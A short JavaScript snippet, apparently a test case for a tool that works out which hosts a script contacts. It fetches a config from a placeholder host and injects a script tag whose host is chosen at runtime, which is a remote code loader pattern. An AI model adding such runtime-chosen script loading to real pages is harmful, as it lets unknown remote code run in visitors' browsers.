// A host that only the network knows.
// expects: config.example.com
// opaque: the address for script.src is made of what is not known
fetch("https://config.example.com/c.json").then((r) => r.json()).then((c) => {
  var s = document.createElement("script"); s.src = "https://" + c.host + "/x.js"; document.head.appendChild(s);
});
